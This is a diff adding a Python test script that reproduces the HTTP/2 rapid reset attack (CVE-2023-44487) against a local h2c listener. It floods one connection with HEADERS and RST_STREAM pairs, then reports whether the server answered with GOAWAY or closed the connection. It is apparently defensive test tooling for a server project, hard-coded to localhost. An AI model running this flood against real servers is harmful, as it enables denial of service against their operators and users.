@@ -1,0 +1,54 @@
+#!/usr/bin/env python3
+"""HTTP/2 rapid reset (CVE-2023-44487) against an h2c listener: one connection, N pairs of
+HEADERS + RST_STREAM(CANCEL), sent as fast as the socket takes them. Prints one line:
+`sent=N goaway=CODE|none closed=yes|no`. Used by weir's tests; bounded in count and time."""
+import socket
+import sys
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+
+
+def main() -> None:
+    port, pairs = int(sys.argv[1]), int(sys.argv[2])
+    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
+    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+    sent, goaway, closed = 0, "none", False
+    headers = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/reset")]
+    try:
+        for _ in range(pairs):
+            stream = conn.get_next_available_stream_id()
+            conn.send_headers(stream, headers, end_stream=True)
+            conn.reset_stream(stream)
+            sock.sendall(conn.data_to_send())
+            sent += 1
+    except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
+        pass
+    deadline = time.time() + 3
+    sock.settimeout(0.5)
+    while time.time() < deadline:
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            continue
+        except (ConnectionResetError, OSError):
+            closed = True
+            break
+        if not data:
+            closed = True
+            break
+        try:
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.ConnectionTerminated):
+                    goaway = str(int(event.error_code))
+        except h2.exceptions.ProtocolError:
+            pass
+    print(f"sent={sent} goaway={goaway} closed={'yes' if closed else 'no'}")
+
+
+if __name__ == "__main__":
+    main()
